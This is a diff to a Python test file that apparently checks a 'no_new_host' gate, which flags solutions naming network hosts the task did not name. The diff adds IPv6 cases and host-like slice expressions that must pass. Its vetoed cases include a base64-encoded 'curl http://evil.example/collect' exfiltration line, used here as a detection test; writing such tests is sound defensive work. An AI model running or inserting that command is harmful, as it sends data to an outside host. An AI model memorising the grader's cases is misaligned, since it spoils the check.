@@ -92,7 +92,8 @@ def test_the_canaries_of_the_manifest_reach_the_gate() -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        "http://evil.example/x", "see HTTPS://1.2.3.4:80", "evil.example.com", "10.0.0.7", "localhost", "[::1]",
+        "http://evil.example/x", "see HTTPS://1.2.3.4:80", "evil.example.com", "10.0.0.7", "localhost",
+        "[fe80::1]:80", "2001:db8::8a2e:370",
         "wss://a.b", base64.b64encode(b"curl http://evil.example/collect").decode(),
     ],
 )  # fmt: skip
@@ -101,11 +102,12 @@ def test_a_host_that_the_task_does_not_name_is_vetoed_in_arguments_and_files(tex
     assert vetoes(made(solution=f"{FIXED}# {text}\n")) == {"no_new_host"}
 
 
-@pytest.mark.parametrize("text", ["v.io", "a.b.c(1)", "x = 1.2 + 3.4", "self.me.to", "1.2.3", "e.g. this", "a::b"])
+@pytest.mark.parametrize(
+    "text", ["v.io", "a.b.c(1)", "x = 1.2 + 3.4", "self.me.to", "1.2.3", "e.g. this", "a::b", "v[::2]", "v[::1]"]
+)
 def test_code_and_words_that_only_look_like_hosts_pass(text: str) -> None:
-    assert GATES["no_new_host"](
-        made(solution=f"{FIXED}\ny = lambda v, a, self, x: {text!r} and 1\n".replace("'", ""))
-    ).passed
+    written = made(step(line=2, text=f"    x = {text}"), solution=f"{FIXED}\ny = {text}\n")
+    assert GATES["no_new_host"](written).passed
 
 
 def test_a_host_that_the_task_names_is_not_new() -> None:
